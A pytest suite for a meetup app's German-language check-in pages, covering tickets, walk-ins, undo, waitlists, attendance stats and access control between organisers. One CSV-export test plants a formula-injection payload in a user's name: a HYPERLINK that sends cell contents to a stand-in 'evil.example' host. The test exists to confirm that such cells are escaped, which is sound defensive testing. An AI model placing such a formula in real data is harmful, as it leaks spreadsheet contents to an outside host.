"""Check-in at the door, tickets with QR codes, and the attendance record."""

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from meetup.extensions import db
from meetup.models import RSVP, Event, RSVPStatus, User, utcnow
from tests.helpers import log_in, redirects_to, submit


def setup_event(make_user, make_group, add_member, make_event, **values):
    owner_id, _ = make_user("owner@example.com")
    slug = make_group(owner_id)
    member_id, _ = make_user(name="Mara Beispiel")
    add_member(slug, member_id)
    walk_in_id, _ = make_user("walk@example.com", name="Walter Spontan")
    add_member(slug, walk_in_id)
    return slug, member_id, walk_in_id, make_event(slug, **values)


def test_ticket_qr_opens_the_check_in_for_organisers(app, client, make_user, make_group,
                                                    add_member, make_event):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    log_in(client, "mara@example.com")
    page = f"/events/{event_id}"
    redirects_to(client.get(f"{page}/ticket"), page)  # no ticket before saying yes
    submit(client, f"{page}/rsvp", {"answer": "yes"}, page=page)
    html = client.get(f"{page}/ticket").get_data(as_text=True)
    assert "<svg" in html and "Einlass-Code" in html
    # The QR code's target is the organiser's check-in page for this person.
    target = f"/events/{event_id}/check-in/{member_id}"
    assert client.get(target).status_code == 403  # members cannot check themselves in
    organiser = app.test_client()
    log_in(organiser, "owner@example.com")
    assert "Mara Beispiel" in organiser.get(target).get_data(as_text=True)
    redirects_to(submit(organiser, target, {}, page=target), f"{page}/check-in?q=")
    assert "Eingelassen" in client.get(f"{page}/ticket").get_data(as_text=True)


def test_check_in_list_search_undo_and_walk_in(app, client, make_user, make_group, add_member,
                                              make_event):
    slug, member_id, walk_in_id, event_id = setup_event(make_user, make_group, add_member,
                                                        make_event, capacity=1)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=member_id))
        db.session.commit()
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    html = client.get(page).get_data(as_text=True)
    assert "0 von 1 sind da" in html and "Mara Beispiel" in html
    found = client.get(f"{page}?q=walter").get_data(as_text=True)
    listed = found.split('class="plain-list check-in-list"')[1].split("walk-in-heading")[0]
    assert "Mara" not in listed and "Niemand passt zu dieser Suche." in listed
    submit(client, f"/events/{event_id}/check-in/{member_id}", {}, page=page)
    assert "1 von 1 sind da" in client.get(page).get_data(as_text=True)
    submit(client, f"/events/{event_id}/check-in/{member_id}/undo", {}, page=page)
    assert "0 von 1 sind da" in client.get(page).get_data(as_text=True)
    # A member at the door without an RSVP: added and checked in (the event is full).
    response = submit(client, f"/events/{event_id}/walk-in", {"user_id": str(walk_in_id)},
                      page=page, follow_redirects=True)
    assert "Walter Spontan ist eingelassen." in response.get_data(as_text=True)
    with app.app_context():
        walk = db.session.scalar(select(RSVP).filter_by(event_id=event_id, user_id=walk_in_id))
        assert walk.status == RSVPStatus.GOING and walk.checked_in_at is not None
    # Organisers can also register a member without checking them in.
    third_id, _ = make_user("third@example.com", name="Tilda Dritte")
    add_member(slug, third_id)
    with app.app_context():
        db.session.get(Event, event_id).capacity = 5
        db.session.commit()
    response = submit(client, f"/events/{event_id}/walk-in",
                      {"user_id": str(third_id), "action": "register"}, page=page,
                      follow_redirects=True)
    assert "Tilda Dritte ist angemeldet." in response.get_data(as_text=True)
    with app.app_context():
        third = db.session.scalar(select(RSVP).filter_by(event_id=event_id, user_id=third_id))
        assert third.status == RSVPStatus.GOING and third.checked_in_at is None
    # Non-members cannot be added as walk-ins.
    outsider_id, _ = make_user("outsider@example.com")
    response = submit(client, f"/events/{event_id}/walk-in", {"user_id": str(outsider_id)},
                      page=page, follow_redirects=True)
    assert "Bitte wählen Sie ein Mitglied" in response.get_data(as_text=True)


def test_organiser_moves_people_between_waitlist_and_going(app, client, make_user, make_group,
                                                          add_member, make_event):
    slug, member_id, walk_in_id, event_id = setup_event(make_user, make_group, add_member,
                                                        make_event, capacity=1)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=member_id))
        db.session.add(RSVP(event_id=event_id, user_id=walk_in_id, status=RSVPStatus.WAITLIST,
                            waitlisted_at=utcnow()))
        db.session.commit()
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    response = submit(client, f"/events/{event_id}/attendees/{walk_in_id}/going", {},
                      page=page, follow_redirects=True)
    assert "Kein Platz frei" in response.get_data(as_text=True)
    # Removing the one going promotes the waitlist.
    submit(client, f"/events/{event_id}/attendees/{member_id}/not_going", {}, page=page)
    with app.app_context():
        assert db.session.scalar(select(RSVP.status).filter_by(
            event_id=event_id, user_id=walk_in_id)) == RSVPStatus.GOING


def test_attendance_record_and_rate(app, client, make_user, make_group, add_member, make_event):
    slug, member_id, _walk, first = setup_event(make_user, make_group, add_member, make_event)
    second = make_event(slug, title="Zweiter Abend")
    with app.app_context():
        for index, event_id in enumerate((first, second)):
            event = db.session.get(Event, event_id)
            event.starts_at = utcnow() - timedelta(days=10 + index)
            event.ends_at = event.starts_at + timedelta(hours=3)
            db.session.add(RSVP(event_id=event_id, user_id=member_id,
                                checked_in_at=event.starts_at if index == 0 else None))
        db.session.commit()
    log_in(client, "mara@example.com")
    html = client.get("/events/mine").get_data(as_text=True)
    assert "Sie waren bei 1 von 2 Veranstaltungen" in html
    assert "Teilgenommen" in html and "Nicht erschienen" in html
    organiser = app.test_client()
    log_in(organiser, "owner@example.com")
    html = organiser.get(f"/groups/{slug}/manage/members").get_data(as_text=True)
    assert "Hält Wort: bei 1 von 2 Zusagen da (50 %)" in html


def test_only_organisers_reach_check_in(app, client, make_user, make_group, add_member,
                                        make_event):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    log_in(client, "mara@example.com")
    assert client.get(f"/events/{event_id}/check-in").status_code == 403
    response = submit(client, f"/events/{event_id}/check-in/{member_id}", {}, page="/")
    assert response.status_code == 403
    with app.app_context():
        assert db.session.scalar(select(RSVP.id)) is None


def outsiders_own_event(make_user, make_group, make_event):
    """Someone who made a club of their own, and a stranger to it."""
    victim_id, _ = make_user("victim@example.com", name="Vera Fremd")
    mallory_id, _ = make_user("mallory@example.com", name="Mallory")
    slug = make_group(mallory_id, "Eigener Club")
    return victim_id, make_event(slug)


@pytest.mark.parametrize("user_id", ["victim", "99999999999999999999", "2147483648"])
def test_organisers_cannot_reach_strangers_at_the_door(app, client, make_user, make_group,
                                                       make_event, user_id):
    victim_id, event_id = outsiders_own_event(make_user, make_group, make_event)
    target = str(victim_id) if user_id == "victim" else user_id
    log_in(client, "mallory@example.com")
    page = f"/events/{event_id}/check-in"
    for url in (f"{page}/{target}", f"{page}/{target}/undo",
                f"/events/{event_id}/attendees/{target}/going"):
        if url.endswith(f"/{target}"):
            response = client.get(url)
            assert response.status_code == 404
            assert "Vera Fremd" not in response.get_data(as_text=True)
        response = submit(client, url, {}, page=page)
        assert response.status_code == 404, url
        assert "Vera Fremd" not in response.get_data(as_text=True)
    response = submit(client, f"/events/{event_id}/walk-in", {"user_id": target}, page=page,
                      follow_redirects=True)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "Vera Fremd" not in html
    assert "Bitte wählen Sie ein Mitglied" in html
    with app.app_context():
        assert db.session.scalar(select(RSVP.id)) is None
    # Nothing opened up: the stranger's events stay their own.
    victim = app.test_client()
    log_in(victim, "victim@example.com")
    assert "Stammtisch" not in victim.get("/events/mine").get_data(as_text=True)


def test_hidden_attendees_are_not_named_at_the_door(app, client, make_user, make_group,
                                                    add_member, make_event):
    slug, member_id, walk_in_id, event_id = setup_event(make_user, make_group, add_member,
                                                        make_event)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=member_id, hidden=True))
        db.session.get(User, member_id).name = "Hanna Heimlich"
        db.session.commit()
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    target = f"{page}/{member_id}"
    html = client.get(target).get_data(as_text=True)
    assert "Hanna" not in html and "Einlassen" in html
    response = submit(client, target, {}, page=target, follow_redirects=True)
    html = response.get_data(as_text=True)
    assert "Das Ticket ist eingelassen." in html and "Hanna" not in html.split("walk-in")[0]
    with app.app_context():
        assert db.session.scalar(select(RSVP.checked_in_at).filter_by(
            user_id=member_id)) is not None
    # A member not registered looks the same: the page does not tell them apart.
    def shown(user_id):
        html = client.get(f"{page}/{user_id}").get_data(as_text=True)
        html = re.sub(r'name="csrf_token" value="[^"]+"', "", html)
        return html.replace(f"check-in/{user_id}", "check-in/ID")

    assert shown(walk_in_id) == shown(member_id)
    # No list of members to subtract the named attendees from; searching her
    # name finds her like any member not registered.
    assert "Walter" not in client.get(page).get_data(as_text=True)
    for name, user_id in (("Hanna Heimlich", member_id), ("Walter Spontan", walk_in_id)):
        found = client.get(f"{page}?q={name.split()[0]}").get_data(as_text=True)
        assert f'value="{user_id}">{name}' in found.split('id="walk-in"')[1]


def test_a_long_search_is_not_reflected_into_the_redirect(app, client, make_user, make_group,
                                                          add_member, make_event):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=member_id))
        db.session.commit()
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    response = submit(client, f"{page}/{member_id}", {"q": "m" * 100_000}, page=page)
    assert len(redirects_to(response, f"{page}?q={'m' * 100}")) < 300


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_attendee_csv_cells_are_never_formulas(app, client, make_user, make_group, add_member,
                                               make_event, start):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=member_id))
        person = db.session.get(User, member_id)
        person.name = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klick")'
        person.company = f"{start}1+1"
        person.headline = "Ganz normal - mit Strich"
        db.session.commit()
    log_in(client, "owner@example.com")
    text = client.get(f"/events/{event_id}/attendees.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{start}1+1" in cells
    assert any(cell.startswith(f"'{start}HYPERLINK") for cell in cells)
    assert "Ganz normal - mit Strich" in cells  # only a leading sign is a formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# --- undo and removal restore what was before -------------------------------------

def registered(app, event_id, user_id, **values):
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=user_id, **values))
        db.session.commit()


def rsvp_state(app, event_id, user_id):
    with app.app_context():
        row = db.session.scalar(select(RSVP).filter_by(event_id=event_id, user_id=user_id))
        if row is None:
            return None
        return row.status, row.guests, row.waitlisted_at, row.checked_in_at


@pytest.mark.parametrize("before", ["going", "waitlist", "not_going", "no answer"])
def test_undoing_a_check_in_restores_exactly_what_was_before(app, client, make_user,
                                                            make_group, add_member,
                                                            make_event, before):
    slug, member_id, walk_in_id, event_id = setup_event(make_user, make_group, add_member,
                                                        make_event, capacity=1)
    with app.app_context():
        db.session.add(RSVP(event_id=event_id, user_id=walk_in_id))  # holds the one seat
        if before == "waitlist":
            db.session.add(RSVP(event_id=event_id, user_id=member_id,
                                status=RSVPStatus.WAITLIST,
                                waitlisted_at=utcnow() - timedelta(hours=2)))
        elif before != "no answer":
            db.session.add(RSVP(event_id=event_id, user_id=member_id, status=RSVPStatus(before)))
        db.session.commit()
    was = rsvp_state(app, event_id, member_id)
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    if before in ("going", "waitlist"):
        submit(client, f"{page}/{member_id}", {}, page=page)
    else:  # not registered: added at the door
        submit(client, f"/events/{event_id}/walk-in", {"user_id": str(member_id)},
               page=page)
    status, _guests, _waiting, arrived = rsvp_state(app, event_id, member_id)
    assert status == RSVPStatus.GOING and arrived is not None
    response = submit(client, f"{page}/{member_id}/undo", {}, page=page,
                      follow_redirects=True)
    assert rsvp_state(app, event_id, member_id) == was
    message = {"going": "Mara Beispiel ist nicht mehr eingelassen, bleibt aber angemeldet.",
               "waitlist": "Mara Beispiel ist nicht mehr eingelassen und wieder auf der "
                           "Warteliste.",
               "not_going": "Mara Beispiel ist nicht mehr eingelassen und nicht mehr "
                            "angemeldet.",
               "no answer": "Mara Beispiel ist nicht mehr eingelassen und nicht mehr "
                            "angemeldet."}[before]
    assert message in response.get_data(as_text=True)
    # A second undo changes nothing and says so.
    response = submit(client, f"{page}/{member_id}/undo", {}, page=page, follow_redirects=True)
    assert rsvp_state(app, event_id, member_id) == was
    if before in ("going", "waitlist"):  # still on the list, so named
        assert "Mara Beispiel war nicht eingelassen." in response.get_data(as_text=True)


def test_removing_someone_then_adding_them_again_starts_afresh(app, client, make_user,
                                                              make_group, add_member,
                                                              make_event):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    registered(app, event_id, member_id)
    log_in(client, "owner@example.com")
    page = f"/events/{event_id}/check-in"
    submit(client, f"{page}/{member_id}", {}, page=page)
    first_check_in = rsvp_state(app, event_id, member_id)[3]
    response = submit(client, f"/events/{event_id}/attendees/{member_id}/not_going", {},
                      page=page, follow_redirects=True)
    assert "Mara Beispiel ist nicht mehr angemeldet." in response.get_data(as_text=True)
    assert rsvp_state(app, event_id, member_id)[::3] == (RSVPStatus.NOT_GOING, None)
    # Registered again: going, not checked in.
    response = submit(client, f"/events/{event_id}/walk-in",
                      {"user_id": str(member_id), "action": "register"}, page=page,
                      follow_redirects=True)
    assert rsvp_state(app, event_id, member_id)[::3] == (RSVPStatus.GOING, None)
    row = response.get_data(as_text=True).split("Mara Beispiel</strong>")[1].split("</li>")[0]
    assert "Eingelassen" not in row and "Mara Beispiel einlassen" in row
    # Checked in again: a new time, not the old one.
    submit(client, f"{page}/{member_id}", {}, page=page)
    assert rsvp_state(app, event_id, member_id)[3] > first_check_in


def test_removal_at_the_door_asks_once(app, client, make_user, make_group, add_member,
                                       make_event):
    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
                                                   make_event)
    registered(app, event_id, member_id)
    log_in(client, "owner@example.com")
    html = client.get(f"/events/{event_id}/check-in").get_data(as_text=True)
    removal = f'action="/events/{event_id}/attendees/{member_id}/not_going"'
    assert html.count(removal) == 1
    confirm = html.split('<details class="confirm">')[1].split("</details>")[0]
    assert removal in confirm and "Mara Beispiel von der Liste nehmen?" in confirm
    assert "Ja, Mara Beispiel entfernen" in confirm
